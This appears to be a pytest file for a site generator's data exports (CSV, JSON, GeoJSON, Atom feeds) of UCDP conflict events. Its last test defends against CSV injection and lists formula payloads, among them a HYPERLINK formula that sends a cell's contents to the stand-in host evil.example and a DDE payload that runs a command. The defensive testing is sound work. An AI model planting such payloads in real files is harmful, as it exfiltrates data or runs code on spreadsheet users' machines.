"""The data built with every site: site/data/ (CSV, JSON with schemas, GeoJSON), an Atom feed
per language and a Data page, for the 409 imported UCDP events (one build per session)."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
from pathlib import Path

import feedparser
import geojson
import jsonschema
import pytest

from helpers import REPO, broken_links, build_into
from sitegen.build.run import build
from sitegen.build.check import check
from sitegen.exports import files, schemas
from sitegen.exports.feeds import LATEST, latest
from sitegen.content.series import series_of
from test_import import GAZETTEER, UCDP, importing, new_content

JSON_FILES = ("events.json", "places.json", "actors.json", "sources.json")


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("exports")
    content = new_content(tmp)
    assert importing("gazetteer", GAZETTEER, content)[0] == 0
    assert importing("ucdp", [UCDP], content)[0] == 0
    project = build_into(tmp, content)
    return project, check(content, None).content


def data(project, name: str) -> bytes:
    return (project.site / "data" / name).read_bytes()


def test_every_data_file_is_there_once(site):
    project, content = site
    assert sorted(os.listdir(project.site / "data")) == sorted(files.NAMES + tuple(schemas.schemas()))
    for lang in content.site.languages:
        assert not (project.site / lang / "data" / "events.csv").exists()


def test_events_csv_parses_one_row_per_event(site):
    project, content = site
    rows = list(csv.DictReader(io.StringIO(data(project, "events.csv").decode("utf-8"), newline="")))
    assert [r["event_id"] for r in rows] == [e.id for e in content.events]
    assert list(rows[0]) == [c for c, _ in files.COLUMNS]  # a fixed set of columns, no figure series
    event = next(e for e in content.events if e.id == "ucdp-292463")
    row = next(r for r in rows if r["event_id"] == event.id)
    assert (row["event_date"], row["admin1"], row["admin2"], row["admin3"]) == (
        "2019-04-28", "Hama", "Al-Suqaylabiyah", "Madiq Castle")
    assert row["geo_precision"] == event.location_precision


def test_json_files_parse_and_follow_their_schemas(site):
    project, content = site
    for name in JSON_FILES:
        document = json.loads(data(project, name))
        schema = json.loads(data(project, name.replace(".json", ".schema.json")))
        jsonschema.Draft202012Validator.check_schema(schema)
        jsonschema.validate(document, schema, cls=jsonschema.Draft202012Validator)
    counts = {name: len(json.loads(data(project, name))[name[:-5]]) for name in JSON_FILES}
    assert counts == {"events.json": len(content.events), "places.json": len(content.places),
                      "actors.json": len(content.actors), "sources.json": len(content.sources)}


def test_geojson_is_valid_rfc7946_longitude_first(site):
    project, content = site
    collection = geojson.loads(data(project, "events.geojson").decode("utf-8"))
    assert collection.is_valid, collection.errors()
    places = {p.id: p for p in content.places}
    expected = [(e.id, p) for e in content.events for p in e.places if places[p].coordinates]
    assert [tuple(f["id"].split("/")) for f in collection["features"]] == expected
    for feature in collection["features"]:
        lat, lon = places[feature["properties"]["place"]].coordinates
        assert feature["geometry"]["coordinates"] == [lon, lat]


def figure_from_row(row: dict) -> dict:
    """A figures.csv row back as the content format's figure (`files.figure_dict`)."""
    figure = {"source": row["source"], "kind": row["kind"], "group": row["group"]}
    low, best, high = (int(row[p]) if row[p] else None for p in ("low", "best", "high"))
    if row["form"] == "count":
        assert low == best == high
        figure["count"] = low
    elif row["form"] == "at_least":
        assert best is None and high is None
        figure["at_least"] = low
    elif row["form"] == "at_most":
        assert low is None and best is None
        figure["at_most"] = high
    else:
        assert row["form"] == "between"
        figure["between"] = [low, high]
        if best is not None:
            figure["best"] = best
    for column, key in (("as_of", "as_of"), ("url", "url"), ("excerpt", "excerpt"), ("document_date", "date")):
        if row[column]:
            figure[key] = row[column]
    return figure


def test_round_trip_keeps_every_figure_and_its_source(site):
    """export -> records: figures.csv (and events.json) give back every figure of every event
    with its source, estimate, date and document; the latest of each series is marked."""
    project, content = site
    exported = {e["id"]: e for e in json.loads(data(project, "events.json"))["events"]}
    rows = list(csv.DictReader(io.StringIO(data(project, "figures.csv").decode("utf-8"), newline="")))
    assert list(rows[0]) == [c for c, _ in files.FIGURE_COLUMNS]
    schema = json.loads(data(project, "figures.schema.json"))
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    for row in rows:
        validator.validate(row)
    assert not validator.is_valid(dict(rows[0], latest="yes")) and not validator.is_valid(dict(rows[0], low="-1"))
    keys = [(r["event_id"], r["source"], r["kind"], r["group"]) for r in rows]
    assert keys == sorted(keys)
    names = {s["id"]: s["name"]["en"] for s in json.loads(data(project, "sources.json"))["sources"]}
    by_event = {}
    for row in rows:
        assert row["source_name"] == names[row["source"]]
        by_event.setdefault(row["event_id"], []).append(row)
    assert set(by_event) <= {e.id for e in content.events}
    canonical = lambda figures: sorted(json.dumps(f, sort_keys=True) for f in figures)  # noqa: E731
    for event in content.events:
        expected = [files.figure_dict(f) for f in event.figures]
        assert exported[event.id].get("figures", []) == expected
        mine = by_event.get(event.id, [])
        assert canonical(figure_from_row(r) for r in mine) == canonical(expected)
        latest = {(r["source"], r["kind"], r["group"]): r for r in mine if r["latest"] == "1"}
        assert {k: figure_from_row(r) for k, r in latest.items()} == {
            s.key: files.figure_dict(s.latest) for s in series_of(event.figures)}
    assert sum(len(e.figures) for e in content.events) == len(rows) > 400
    ranged = next(r for r in by_event["ucdp-292463"] if r["kind"] == "killed" and r["group"] == "people")
    assert (ranged["source"], ranged["form"], ranged["low"], ranged["best"], ranged["high"]) == (
        "ucdp", "between", "5", "7", "7")
    ranged = exported["ucdp-292463"]["figures"][0]
    assert (ranged["source"], ranged["between"], ranged["best"]) == ("ucdp", [5, 7], 7)


def test_feed_per_language_parses_with_the_latest_events(site):
    project, content = site
    expected = latest(content)
    assert len(expected) == min(LATEST, len(content.events))
    assert expected == sorted(content.events, key=lambda e: (e.date.sort_key, e.id), reverse=True)[:LATEST]
    for lang in content.site.languages:
        feed = feedparser.parse((project.site / lang / "feed.xml").read_bytes())
        assert not feed.bozo, feed.bozo_exception
        assert feed.feed.language == lang
        assert [e.link for e in feed.entries] == [f"events/{e.id}/" for e in expected]
        assert [e.title for e in feed.entries] == [e.title.get(lang, content.site.default_language)[0] for e in expected]


def test_every_page_announces_the_feed_and_links_resolve(site):
    project, content = site
    for lang in content.site.languages:
        for page in (project.site / lang).rglob("index.html"):
            head = page.read_text(encoding="utf-8").partition("</head>")[0]
            link = re.search(r'<link rel="alternate" type="application/atom\+xml"[^>]* href="([^"]+)"', head)
            assert link, page
            assert (page.parent / link.group(1)).resolve() == (project.site / lang / "feed.xml").resolve()
    assert broken_links(project.site) == []


def test_data_page_lists_each_file_with_its_size(site):
    project, content = site
    from sitegen.exports.datapage import size

    for lang in content.site.languages:
        page = (project.site / lang / "data" / "index.html").read_text(encoding="utf-8")
        for name in files.NAMES:
            assert f'href="../../data/{name}"' in page
            assert size(len(data(project, name)), lang) in page
        for column, _ in files.COLUMNS + files.FIGURE_COLUMNS:
            assert f'<code dir="ltr">{column}</code>' in page
        assert "__low" not in page


def test_data_page_is_made_in_each_language_with_its_own_title(site):
    """The Data page is written in each language (not kept in the default one, as the
    editors' guide is): no "not translated yet" note, and its front matter read as such,
    so its title is the page's heading, not a line of text under a rule."""
    project, content = site
    from sitegen.pages.render import make_env

    for lang in content.site.languages:
        page = (project.site / lang / "data" / "index.html").read_text(encoding="utf-8")
        title = make_env(lang, REPO / "templates", REPO / "locale")[0].constant_gettext("Data")
        assert "sg-untranslated" not in page, lang
        assert "title:" not in page and "<hr" not in page.partition("<article")[2].partition("</h1>")[0], lang
        assert re.search(r"<h1[^>]*>" + re.escape(title), page), lang


def test_low_best_high_shows_as_a_range_with_its_best(site):
    project, _ = site
    page = (project.site / "en" / "events" / "ucdp-292463" / "index.html").read_text(encoding="utf-8")
    from sitegen.pages.render import make_env

    shown = make_env("en", REPO / "templates", REPO / "locale")[1].figure("killed", "best", 5, 7, 7)
    assert shown in page and "5" in shown and "7" in shown
    assert "the exact place" in page  # the location precision


def test_exports_are_rewritten_only_when_a_record_changed(tmp_path):
    """On the small sample site: a rebuild that touched no record leaves every file and feed
    (the feeds are not even made); an edited event rewrites the files that hold what changed,
    and only those (a new date and title: not figures.csv; a new figure: figures.csv and
    events.json only), and the feeds are those a whole build makes."""
    from sitegen.exports import feeds

    shutil.copytree(REPO / "content", tmp_path / "content")
    project = build_into(tmp_path, tmp_path / "content")
    folder = project.site / "data"
    stamps = {n: os.stat(folder / n).st_mtime_ns for n in files.NAMES}
    langs = ("en", "ar", "tr")
    feed_stamps = {lang: os.stat(project.site / lang / "feed.xml").st_mtime_ns for lang in langs}
    build(project, say=lambda line: None)
    assert {n: os.stat(folder / n).st_mtime_ns for n in files.NAMES} == stamps
    assert {lang: os.stat(project.site / lang / "feed.xml").st_mtime_ns for lang in langs} == feed_stamps
    event = project.content / "events" / "qalaat-al-mudiq-captured.yaml"
    event.write_text(event.read_text(encoding="utf-8").replace("date: \"2019-05-09\"", "date: \"2019-05-09~\"")
                     .replace("capture Qalaat al-Mudiq", "take Qalaat al-Mudiq"), encoding="utf-8")
    build(project, say=lambda line: None)
    after = {n: os.stat(folder / n).st_mtime_ns for n in files.NAMES}
    assert [n for n in files.NAMES if after[n] != stamps[n]] == ["events.csv", "events.json", "events.geojson"]
    assert b'"date": "2019-05-09~"' in (folder / "events.json").read_bytes()
    page = (project.site / "en" / "events" / "qalaat-al-mudiq-captured" / "index.html").read_text(encoding="utf-8")
    assert "about May 9, 2019" in page
    model = check(project.content, None).content
    assert "qalaat-al-mudiq-captured" in [e.id for e in latest(model)]
    for lang in langs:
        assert (project.site / lang / "feed.xml").read_bytes() == feeds.feed(model, lang)
    assert b"take Qalaat al-Mudiq" in (project.site / "en" / "feed.xml").read_bytes()
    event = project.content / "events" / "northwest-syria-air-and-ground-attacks.yaml"
    event.write_text(event.read_text(encoding="utf-8").replace("at_least: 122", "at_least: 123"), encoding="utf-8")
    build(project, say=lambda line: None)
    again = {n: os.stat(folder / n).st_mtime_ns for n in files.NAMES}
    assert [n for n in files.NAMES if again[n] != after[n]] == ["figures.csv", "events.json"]
    assert b",122," not in (folder / "figures.csv").read_bytes()
    assert b",123,,,at_least," in (folder / "figures.csv").read_bytes()


def test_acled_events_stay_out_of_the_data_files(site):
    _, content = site
    from dataclasses import replace

    event = replace(content.events[0], id="acled-syr1", external_ids=(("acled", "SYR1"),))
    made = files.make(replace(content, events=content.events + (event,)))
    assert made["figures.csv"].count(content.events[0].id.encode()) == len(content.events[0].figures) > 0
    assert all(b"acled-syr1" not in made[name] for name in files.NAMES)


def test_a_newcomers_import_builds_strict_and_keeps_acled_rows_out_of_the_files(tmp_path):
    """The README's flow on a copy of the sample content: the gazetteer, the 409 UCDP rows and
    ACLED rows (made by the test) imported, then the build `make site` runs (strict), with no
    hand-editing. ACLED's events are on the site in every language but in no data file, and
    the Data page says so."""
    from test_import import ACLED_ROWS, write_acled

    content = tmp_path / "content"
    shutil.copytree(REPO / "content", content)
    assert importing("gazetteer", GAZETTEER, content)[0] == 0
    assert importing("ucdp", [UCDP], content)[0] == 0
    assert importing("acled", [write_acled(tmp_path / "acled.csv", ACLED_ROWS)], content)[0] == 0
    project = build_into(tmp_path, content, strict=True)
    acled = [f"acled-syr10{n}" for n in (1, 2, 3)]
    for lang in ("en", "ar", "tr"):
        for event in acled + ["ucdp-292463"]:
            assert (project.site / lang / "events" / event / "index.html").is_file()
        assert b"events/ucdp-" in (project.site / lang / "feed.xml").read_bytes()  # the latest 50
    for name in ("events.csv", "figures.csv", "events.json", "events.geojson"):
        made = data(project, name)
        assert b"ucdp-292463" in made and not any(e.encode() in made for e in acled)
    rows = list(csv.DictReader(io.StringIO(data(project, "events.csv").decode("utf-8"), newline="")))
    events = check(content, None).content.events
    assert len(rows) == len(events) - 3
    page = (project.site / "en" / "data" / "index.html").read_text(encoding="utf-8")
    assert "Events imported from ACLED are left out of these files" in page


FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\tx=1", "\uff1d1+1")


def test_no_text_cell_reads_as_a_spreadsheet_formula():
    """CSV injection (OWASP): an event title, a place's name, a source's name and a summary
    that start like a formula reach the CSV files with a leading `'`, shown as text by a
    spreadsheet; negative coordinates stay numbers."""
    from dataclasses import replace

    from sitegen.content.model import Text

    content = check(REPO / "content", None).content
    event = next(e for e in content.events if e.figures and e.places)
    lang = content.site.default_language
    hostile = {
        "title": FORMULAS[0], "location": FORMULAS[1], "notes": FORMULAS[2], "source_name": FORMULAS[3],
        "actor1": FORMULAS[4],
    }
    place = next(p for p in content.places if p.id == event.places[0])
    source = next(s for s in content.sources if s.id == event.figures[0].source)
    acting = next(p.actor for p in event.actors if p.role in ("acting", "supporting"))
    places = [replace(p, name=Text(((lang, FORMULAS[1]),)), coordinates=(-33.5, -70.25)) if p is place else p
              for p in content.places]
    changed = replace(
        content,
        events=tuple(replace(e, title=Text(((lang, FORMULAS[0]),)), summary=Text(((lang, FORMULAS[2]),)))
                     if e is event else e for e in content.events),
        places=tuple(places),
        sources=tuple(replace(s, name=Text(((lang, FORMULAS[3]),))) if s is source else s for s in content.sources),
        actors=tuple(replace(a, name=Text(((lang, FORMULAS[4 if a.id == acting else 5]),))) for a in content.actors),
    )
    made = files.make(changed)
    events = {r["event_id"]: r for r in csv.DictReader(io.StringIO(made["events.csv"].decode("utf-8"), newline=""))}
    figures = list(csv.DictReader(io.StringIO(made["figures.csv"].decode("utf-8"), newline="")))
    row = events[event.id]
    for column in ("title", "location", "notes", "actor1"):
        assert row[column] == "'" + hostile[column], column
    assert any(r["actor2"] == "'" + FORMULAS[5] for r in events.values())
    assert any(r["source_name"] == "'" + FORMULAS[3] for r in figures)
    assert (row["latitude"], row["longitude"]) == ("-33.5", "-70.25")
    for table in [list(events.values()), figures]:
        for item in table:
            for column, value in item.items():
                assert column in ("latitude", "longitude") or value[:1] not in files.FORMULA_START, value
